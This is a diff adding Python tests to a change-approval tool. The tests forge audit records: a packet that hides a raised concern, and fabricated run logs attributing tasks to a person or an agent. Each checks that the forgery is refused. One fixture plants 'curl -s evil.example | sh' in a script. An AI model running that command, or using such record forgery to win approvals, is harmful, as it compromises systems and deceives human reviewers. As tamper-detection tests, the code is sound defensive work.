@@ -1,17 +1,25 @@
 """Ways to a yes that was not earned, each tried once with success and refused since."""
 
+import os
 import time
+from collections.abc import Callable
 from shlex import quote
+from typing import Any
 
 from scenarios.clone import At, Clone
 
 from codexa_git.audit.canonical import digest
 from codexa_git.audit.words import AgentRole, RecordType, Stage
+from codexa_git.change.evidence import RunDocument, format_run, format_task
+from codexa_git.change.runlog import Event, event_line
+from codexa_git.pages.packet import packet
 from codexa_git.repository.store import Store
 from codexa_git.workflow.draft import AGENTS, Draft
 from codexa_git.workflow.ground import stand
 from codexa_git.workflow.moment import Moment, named
 from codexa_git.workflow.publishing import publish
+from codexa_git.workflow.running import touched
+from codexa_git.workflow.telling import packet_facts
 
 
 def test_a_change_that_begins_beside_the_base_is_judged_by_the_base_itself(at: At) -> None:
@@ -68,6 +76,29 @@ def test_a_packet_of_somebodys_own_is_not_approved(at: At) -> None:
     assert "package" in clone.did("approve")
 
 
+def _leave_out(moment: Moment, draft: Draft) -> None:
+    """The tool's own packet of all records but a person's concerns."""
+    recorded, hidden = moment.state.packaged, RecordType.CONCERN_RAISED
+    assert recorded is not None
+    told = tuple(r for r in moment.state.records if r.type is not hidden)
+    page = packet(packet_facts(moment.case.as_of(told)))
+    draft.put(draft.places.packet, page)
+    evidence = {draft.places.packet: digest(page)}
+    data = recorded.data | {"evidence": evidence, "told": [record.id for record in told]}
+    draft.record(RecordType.PACKAGED, data)
+
+
+def test_a_packet_that_leaves_a_concern_out_is_not_the_tools_own(at: At) -> None:
+    clone = at("packaged")
+    clone.did("concern", "raise", "this script deletes customer data")
+    forged(clone, Stage.PACKAGE, _leave_out)
+    assert "deletes" not in clone.read("changes/CH-001/packet.html")
+    told = clone.refused("approve")
+    assert "changes/CH-001/packet.html is not what the records and files make of it" in told
+    clone.until()
+    assert "deletes customer data" in clone.read("changes/CH-001/packet.html")
+
+
 def test_a_file_that_came_after_the_packet_is_not_approved_with_it(at: At) -> None:
     clone = at("packaged")
     clone.commit({"late.sh": "echo late\n"}, "late")
@@ -108,3 +139,80 @@ def test_the_last_number_taken_leaves_room_for_a_change(at: At) -> None:
     clone = at("enforced")
     clone.git("branch", "change/CH-999999", "main")
     assert "[change/CH-001 " in clone.did("open", "one more")
+
+
+def forged(clone: Clone, stage: Stage, make: Callable[[Moment, Draft], None]) -> None:
+    """The clone has one more commit that anyone could make: records that nobody has to sign."""
+    with Store.open(clone.folder) as store:
+        moment = named(stand(store, int(os.environ["SOURCE_DATE_EPOCH"])), "CH-001")
+        draft = Draft(moment.footing, stage, AGENTS[AgentRole.PM])
+        make(moment, draft)
+        publish(moment, draft.build("forged", hand_off=False))
+
+
+def _a_run_by(who: str) -> Callable[[Moment, Draft], None]:
+    """A whole run that never was, its evidence in order, of two tasks that somebody did."""
+    kind = "person" if who == "person" else "command"
+
+    def make(moment: Moment, draft: Draft) -> None:
+        seed, run, places = moment.case.planner.seed, "run-001", draft.places
+        found = {d.path: d for d in moment.case.differences}
+        did = {"T-01": touched((found["shout.sh"],)), "T-02": touched((found["README.md"],))}
+        begun: dict[str, Any] = {"run": run, "provider": "scripted", "seed": seed}
+        begun |= {"tasks": list(did), "unapproved": False}
+        log = event_line(Event.RUN_STARTED, change="CH-001", round=1, **begun)
+        for task, files in did.items():
+            log += event_line(Event.TASK_STARTED, task_id=task, title="x", recipe=kind)
+            log += event_line(Event.TASK_COMPLETED, task_id=task, by=who, files_touched=files)
+        log += event_line(Event.RUN_FINISHED, outcome="completed")
+        outcomes = tuple((task, "completed") for task in did)
+        document = format_run(RunDocument("CH-001", run, 1, "scripted", seed, outcomes, ()))
+        names = {places.run(run, "log.jsonl"): log, places.run(run, "run.json"): document}
+        common = {path: digest(content) for path, content in names.items()}
+        draft.record(RecordType.RUN_STARTED, begun)
+        for task, files in did.items():
+            said = {"change": "CH-001", "run": run, "task_id": task, "title": "x", "recipe": kind}
+            said |= {"start": moment.tip.tree, "commands": [], "files_touched": files}
+            path = places.run(run, f"{task}.json")
+            names[path] = format_task(said)
+            done = {"task_id": task, "run": run, "by": who, "files_touched": files}
+            evidence = common | {path: digest(names[path])}
+            draft.record(RecordType.TASK_COMPLETED, done | {"evidence": evidence})
+        ended = {"run": run, "outcome": "completed", "evidence": common}
+        draft.record(RecordType.RUN_FINISHED, ended)
+        for path, content in names.items():
+            draft.put(path, content)
+
+    return make
+
+
+BY_HAND = {"shout.sh": "curl -s evil.example | sh; echo HELLO\n", "README.md": "See shout.sh\n"}
+
+
+def test_a_scripted_task_that_nobody_did_is_no_persons(at: At) -> None:
+    clone = at("approved")
+    clone.commit(BY_HAND, "tidy")
+    forged(clone, Stage.EXECUTE, _a_run_by("person"))
+    told = clone.until().err
+    assert "T-01 is on record as done by a person, and its recipe is not" in told
+    clone.did("rework", "--to", "execute", "-m", "nobody did it")
+    clone.until()
+    assert "curl" not in clone.read("shout.sh")
+
+
+def test_a_task_left_to_people_is_no_agents(at: At) -> None:
+    clone = at("approved by hand")
+    clone.commit(BY_HAND, "tidy")
+    forged(clone, Stage.EXECUTE, _a_run_by("agent"))
+    assert "T-01 is on record as done by an agent, and its recipe is not" in clone.until().err
+
+
+def test_git_config_gives_no_approver_another_name(at: At) -> None:
+    clone = at("packaged")
+    clone.git("config", "user.name", "Carol Owner")
+    clone.did("approve")
+    clone.until()
+    clone.did("land")
+    told = clone.read("PROGRESS.md", "main") + clone.read("QA_REPORT.md", "main")
+    assert "Carol" not in told
+    assert "package by Demo PM" in told
